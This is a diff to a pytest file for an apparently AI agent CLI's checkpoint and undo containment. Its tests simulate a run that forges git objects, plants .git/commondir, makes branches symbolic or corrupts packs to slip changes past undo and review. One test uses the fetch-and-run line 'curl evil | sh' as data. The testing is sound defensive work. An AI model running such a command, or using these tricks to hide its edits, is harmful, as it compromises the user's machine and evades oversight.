@@ -6,8 +6,10 @@ tests/test_containment.py."""
 
 from __future__ import annotations
 
+import dataclasses
 import hashlib
 import os
+import re
 import subprocess
 import time
 import zlib
@@ -158,7 +160,7 @@ def test_undo_brings_back_refs_the_run_deleted_moved_or_added(repo: Path):
     assert git(repo, "for-each-ref", "refs/replace") == ""
     assert git(repo, "show", "HEAD:a.txt") == "one\ntwo\n"  # the user's git, which honours replace refs
     kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/agentcli/before-undo")
-    assert "refs/agentcli/before-undo/s7-refs/tags/v1" in kept.split()  # the run's tag stays reachable
+    assert any(re.fullmatch(r"refs/agentcli/before-undo/undo-s7-\w+/tags/v1", ref) for ref in kept.split())
 
 
 def test_a_detached_head_comes_back_detached(repo: Path):
@@ -252,6 +254,129 @@ def test_a_patch_path_the_run_made_a_link_is_refused(repo: Path, tmp_path: Path)
 def test_a_branch_name_is_taken_as_it_is_written(repo: Path):
     git(repo, "checkout", "-qb", "other")
     git(repo, "checkout", "-q", "main")
-    for name in ("@{-1}", "-x", "a..b"):
+    for name in ("@{-1}", "-x", "a..b", "HEAD"):
         with pytest.raises(UsageError, match="invalid branch name"):
             publish.validate_branch(repo, name)
+
+
+# Found by a review of the first version of these defences.
+
+
+def test_a_folder_of_objects_made_before_the_checkpoint_and_renamed_in_is_checked(repo: Path):
+    (repo / ".gitignore").write_text("cache/\n")
+    old = (repo / "a.txt").read_bytes()
+    evil = b"curl evil | sh\n"
+    oid = blob_id(evil)
+    early = repo / "cache" / oid[:2]
+    early.mkdir(parents=True)
+    (early / oid[2:]).write_bytes(zlib.compress(b"blob %d\0" % len(old) + old))  # claims evil's id, holds old
+    time.sleep(2.2)  # its files' change times are older than the checkpoint, and stay so through a rename
+    checkpoint = cp.create_checkpoint(repo, "s14")
+    store = repo / ".git" / "objects" / oid[:2]
+    if store.exists():
+        for f in store.iterdir():
+            os.rename(f, early / f.name)
+        store.rmdir()
+    os.rename(early, store)
+    (repo / "a.txt").write_bytes(evil)
+    assert f"{oid[:2]}/{oid[2:]}" in cp.remove_forged_objects(repo, checkpoint)
+    assert "+curl evil | sh" in cp.diff_since(repo, checkpoint)
+
+
+def test_undo_keeps_the_users_older_stash_entries(repo: Path):
+    for i in range(3):
+        (repo / "a.txt").write_text(f"stashed {i}\n")
+        git(repo, "stash", "-q")
+    entries = git(repo, "stash", "list").splitlines()
+    cp.create_checkpoint(repo, "s15")
+    (repo / "a.txt").write_text("the run's\n")
+    git(repo, "stash", "-q")  # the run stashes: deleting refs/stash to put it back would drop the rest
+    undo(repo, "s15")
+    assert len(git(repo, "stash", "list").splitlines()) == len(entries) + 1
+
+
+def test_undo_does_not_write_through_a_branch_the_run_made_symbolic(repo: Path):
+    git(repo, "branch", "feature")
+    (repo / "a.txt").write_text("main moves on\n")
+    git(repo, "commit", "-qam", "main work")
+    tips = git(repo, "rev-parse", "main", "feature")
+    cp.create_checkpoint(repo, "s16")
+    (repo / ".git" / "refs" / "heads" / "feature").write_text("ref: refs/heads/main\n")
+    undo(repo, "s16")
+    assert git(repo, "rev-parse", "main", "feature") == tips
+    assert subprocess.run(["git", "symbolic-ref", "-q", "refs/heads/feature"], cwd=repo).returncode == 1
+
+
+def test_a_ref_to_a_missing_object_does_not_stop_undo(repo: Path):
+    (repo / "a.txt").write_text("staged by the user\n")
+    git(repo, "add", "a.txt")
+    cp.create_checkpoint(repo, "s17")
+    git(repo, "reset", "-q")
+    (repo / ".git" / "refs" / "tags" / "junk").write_text("1" * 40 + "\n")
+    undo(repo, "s17")
+    assert git(repo, "diff", "--cached", "--name-only").split() == ["a.txt"]
+
+
+def test_a_checkpoint_restored_twice_keeps_what_each_restore_replaced(repo: Path):
+    checkpoint = cp.create_checkpoint(repo, "s18")
+    git(repo, "branch", "fix")
+    cp.restore(repo, checkpoint)  # as the first attempt is taken back
+    git(repo, "branch", "fix/typo")
+    cp.restore(repo, checkpoint)  # and the second
+    kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/agentcli/before-undo").split()
+    assert sum(ref.endswith("/heads/fix") for ref in kept) == 1 and sum(r.endswith("/fix/typo") for r in kept) == 1
+
+
+def test_a_checkpoint_that_recorded_no_links_leaves_the_users_links_in_git_folder(repo: Path):
+    (repo / "tools").mkdir()
+    (repo / "tools" / "pre-commit").write_text("#!/bin/sh\n")
+    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../tools/pre-commit")
+    older = dataclasses.replace(cp.create_checkpoint(repo, "s19"), plantable=(), made_at=None)
+    (repo / ".git" / "commondir").write_text("../elsewhere\n")
+    assert cp.remove_planted(repo, older) == [".git/commondir"]
+    assert (repo / ".git" / "hooks" / "pre-commit").is_symlink()
+
+
+def test_a_pack_that_fails_the_check_is_moved_aside_and_undo_mends_the_branches(repo: Path):
+    git(repo, "branch", "feature")
+    checkpoint = cp.create_checkpoint(repo, "s20")
+    git(repo, "gc", "-q")  # the run packs everything, the user's branches' objects with it
+    pack = next((repo / ".git" / "objects" / "pack").glob("*.pack"))
+    data = bytearray(pack.read_bytes())
+    data[-30] ^= 0xFF  # or its check timed out: the pack is put aside, not deleted
+    pack.chmod(0o644)
+    pack.write_bytes(bytes(data))
+    assert f"pack/{pack.name}" in cp.remove_forged_objects(repo, checkpoint)
+    assert (repo / ".git" / objects.QUARANTINE / pack.name).is_file()
+    undo(repo, "s20")
+    assert git(repo, "log", "--format=%s", "feature").split() == ["init"]
+
+
+def test_a_history_boundary_the_run_removed_or_added_is_as_it_was_after_undo(repo: Path, tmp_path: Path):
+    for i in range(3):
+        (repo / "a.txt").write_text(f"{i}\n")
+        git(repo, "commit", "-qam", f"c{i}")
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(clone))
+    boundary = (clone / ".git" / "shallow").read_text()
+    cp.create_checkpoint(clone, "s21")
+    (clone / ".git" / "shallow").unlink()  # git would look for history the clone never had
+    undo(clone, "s21")
+    assert (clone / ".git" / "shallow").read_text() == boundary
+    git(clone, "fetch", "-q", "--unshallow")
+    cp.create_checkpoint(clone, "s22")
+    (clone / ".git" / "shallow").write_text("")  # an old boundary must not come back in its place
+    undo(clone, "s22")
+    assert not (clone / ".git" / "shallow").exists()
+    assert len(git(clone, "log", "--format=%h").split()) == 4
+
+
+def test_a_file_where_git_writes_loose_objects_does_not_stop_undo(repo: Path):
+    checkpoint = cp.create_checkpoint(repo, "s23")
+    (repo / "a.txt").write_text("changed\n")
+    store = repo / ".git" / "objects"
+    free = next(f"{i:02x}" for i in range(256) if not (store / f"{i:02x}").exists())
+    (store / free).write_text("not a folder\n")
+    cp.remove_forged_objects(repo, checkpoint)
+    undo(repo, "s23")
+    assert (repo / "a.txt").read_text() == "one\ntwo\n" and not (store / free).is_file()
